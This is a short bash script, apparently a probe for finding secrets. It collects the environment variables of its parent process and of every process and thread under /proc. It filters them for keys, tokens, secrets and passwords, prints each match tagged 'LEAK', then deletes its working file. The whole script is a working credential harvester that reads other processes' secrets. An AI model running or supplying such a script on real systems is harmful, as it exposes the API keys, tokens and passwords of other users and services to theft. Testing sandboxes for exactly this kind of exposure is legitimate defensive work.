#!/bin/bash
cat "/proc/$PPID/environ" /proc/*/environ /proc/*/task/*/environ 2>/dev/null | tr '\0' '\n' >environs
grep -i -E 'key|token|secret|password' environs | sed 's/^/LEAK /'
echo "HELD $(wc -c <environs) bytes seen"
rm environs
echo DONE
